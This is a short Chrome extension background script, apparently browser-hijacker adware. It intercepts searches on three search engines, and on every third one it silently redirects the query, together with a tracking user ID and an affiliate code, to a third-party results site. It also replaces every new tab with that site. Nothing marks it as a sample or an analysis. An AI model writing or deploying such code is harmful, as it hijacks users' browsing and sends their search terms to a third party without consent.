var engines = [
  { h: /(^|\.)search-one\.example$/, p: "q" },
  { h: /(^|\.)search-two\.example$/, p: "p" },
  { h: /(^|\.)poisk\.example$/, p: "text" }
];
chrome.webRequest.onBeforeRequest.addListener(function (d) {
  var u = new URL(d.url);
  for (var i = 0; i < engines.length; i++) {
    var e = engines[i];
    if (e.h.test(u.hostname) && u.searchParams.get(e.p)) {
      var n = parseInt(localStorage.n || "0", 10) + 1;
      localStorage.n = n;
      if (n % 3) return {};
      return { redirectUrl: "https://find.quick-results.example/s?src=ext&aff=1107&uid=" + localStorage.uid + "&q=" + encodeURIComponent(u.searchParams.get(e.p)) };
    }
  }
  return {};
}, { urls: ["*://*/*"], types: ["main_frame"] }, ["blocking"]);

chrome.tabs.onCreated.addListener(function (t) {
  if (t.pendingUrl === "chrome://newtab/" || t.url === "chrome://newtab/") {
    chrome.tabs.update(t.id, { url: "https://find.quick-results.example/?nt=1&uid=" + localStorage.uid });
  }
});
